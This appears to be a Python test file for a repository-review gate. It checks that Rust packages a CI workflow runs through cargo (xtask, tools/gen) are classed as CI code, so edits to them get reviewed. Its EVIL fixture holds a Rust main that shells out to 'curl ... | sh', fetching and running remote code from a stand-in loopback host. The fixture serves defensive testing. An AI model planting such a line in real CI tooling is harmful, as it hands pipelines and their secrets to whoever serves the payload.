"""Red team 23: the Rust package a CI job runs with cargo stayed src, and `gate --tree` allowed editing it.

`cargo xtask ci` runs the repository's `xtask/` package (diesel and slint, among the mirrored repositories, run theirs
in CI), as `cargo run --package xtask --` and `cargo run --manifest-path tools/gen/Cargo.toml` run the package they
name: the code of the CI job, as `go run ./cmd/release`'s is (red team 14). Now those `.rs` files are `ci` with the
commits (cargorun.py); `cargo run` of the project itself (no package, the root manifest, another `-p`) names nothing.
"""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from gatekeeper.classify.cargorun import packages
from tests.gitrepo import two_commits
from tests.incli import reviewed_paths, tree_gate
from tests.test_classify_context import tree_files

STEPS = "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n"
MAIN = 'fn main() {\n    println!("tidy");\n}\n'
EVIL = 'fn main() {\n    std::process::Command::new("sh").arg("-c").arg("curl -s https://127.0.0.1:9 | sh");\n}\n'
FILES = {"Cargo.toml": '[workspace]\nmembers = ["xtask", "tools/gen"]\n',
         ".cargo/config.toml": '[alias]\nxtask = "run --package xtask --"\n',
         "xtask/Cargo.toml": '[package]\nname = "xtask"\nversion = "0.1.0"\n', "xtask/src/main.rs": MAIN,
         "xtask/src/tidy/mod.rs": "pub fn run() {}\n", "tools/gen/Cargo.toml": '[package]\nname = "gen"\n',
         "tools/gen/src/main.rs": MAIN, "src/lib.rs": "pub fn add() {}\n"}


@each_case(("command", "target"), [
    ("cargo xtask tidy --keep-going", "xtask/src/main.rs"),
    ("cargo xtask run-tests sqlite", "xtask/src/tidy/mod.rs"),
    ("cargo +nightly xtask dist", "xtask/src/main.rs"),
    ("cargo run --locked --package xtask -- dist", "xtask/src/main.rs"),
    ("cargo run -p xtask -- dist", "xtask/src/main.rs"),
    ("cargo run --release --manifest-path tools/gen/Cargo.toml -- out/", "tools/gen/src/main.rs"),
    ("cargo run --manifest-path=./tools/gen/Cargo.toml", "tools/gen/src/main.rs"),
    ("cargo run -p gen", "tools/gen/src/main.rs"),  # attack 47: the workspace's manifests read for its folder
    # attack 21: cargo's global options before the command, its `r` alias, `-p=NAME` (src on 18bf0c0)
    ("cargo -q run --package xtask -- dist", "xtask/src/main.rs"),
    ("cargo --locked xtask ci", "xtask/src/main.rs"),
    ("cargo r -p xtask -- ci", "xtask/src/tidy/mod.rs"),
    ("cargo run -p=xtask", "xtask/src/main.rs"),
    ("cargo --frozen --color always run --manifest-path tools/gen/Cargo.toml", "tools/gen/src/main.rs"),
])
def test_the_package_a_ci_job_runs_is_ci(tmp_path: Path, command: str, target: str) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {**FILES, ".github/workflows/ci.yml": STEPS + f"      - run: "
                                                                                                     f"{command}\n"},
                                   {target: EVIL})
    assert tree_files(repo, f"{base}..{head}")[target].bucket == "ci"


# (`cargo run -p gen` moved to tests/test_attack47_cargo_bins.py: a workspace package CI runs is its tooling)
@each_case("command", ["cargo test --workspace", "cargo run -- --help", "cargo run -p app",
                                     "cargo run --manifest-path Cargo.toml", "# cargo xtask is run by hand"])
def test_the_project_s_own_code_stays_src(tmp_path: Path, command: str) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {**FILES, ".github/workflows/ci.yml": STEPS + f"      - run: "
                                                                                                     f"{command}\n"},
                                   {"src/lib.rs": "pub fn add() { }\n", "tools/gen/src/main.rs": EVIL})
    found = tree_files(repo, f"{base}..{head}")
    assert found["src/lib.rs"].bucket == "src"
    assert found["tools/gen/src/main.rs"].bucket == "src"


def test_the_default_gate_reviews_the_edit(tmp_path: Path) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {**FILES, ".github/workflows/ci.yml": STEPS + "      - run: "
                                                                                                    "cargo xtask ci\n"},
                                   {"xtask/src/main.rs": EVIL})
    code, decision = tree_gate(repo.root, base, head)
    assert code == 3 and reviewed_paths(decision, "core.ci") == {"xtask/src/main.rs"}


def test_packages_names_globs_from_the_root() -> None:
    assert packages("run: cargo xtask codegen") == ["xtask/*.rs"]
    assert packages("run: cargo run --manifest-path ../outside/Cargo.toml") == []
    assert packages("run: cargo build --release") == []
